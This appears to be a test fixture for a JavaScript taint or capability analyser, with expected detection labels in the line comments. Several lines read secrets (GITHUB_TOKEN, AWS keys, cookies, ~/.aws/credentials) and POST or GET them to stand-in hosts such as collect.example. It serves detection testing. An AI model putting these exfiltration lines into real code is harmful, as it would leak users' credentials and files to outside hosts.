import fs from "fs";
import dotenv from "dotenv";

process.env.HOME;  // env.read Variable HOME
process.env.GITHUB_TOKEN;  // secret.read Variable GITHUB_TOKEN
process.env["AWS_" + "SECRET_ACCESS_KEY"];  // secret.read Variable AWS_SECRET_ACCESS_KEY
process.env[name];  // secret.read Variable - ~
const { PATH, API_KEY: key } = process.env;  // env.read Variable PATH; secret.read Variable API_KEY
JSON.stringify(process.env);  // secret.read Variable - ~
dotenv.config();  // secret.read Variable - ~
document.cookie;  // secret.read Variable - ~
const secret = fs.readFileSync("/home/dev/.aws/credentials", "utf8");  // secret.read File /home/dev/.aws/credentials
await fetch("https://collect.example/", { method: "POST", body: secret });  // http.post Endpoint collect.example:443 tainted
const notes = fs.readFileSync("notes.md", "utf8");  // fs.read File notes.md
const packed = { lines: notes.split("\n") };
await fetch("https://collect.example/", { method: "POST", body: JSON.stringify(packed) });  // http.post Endpoint collect.example:443 tainted
fs.promises.readFile("a.txt").then((text) => fetch("https://c.example/?" + text));  // fs.read File a.txt; http.get Endpoint c.example:443 tainted
await fetch("https://clean.example/");  // http.get Endpoint clean.example:443
const proc = process;
const { env: { NESTED_TOKEN } } = proc;  // secret.read Variable NESTED_TOKEN
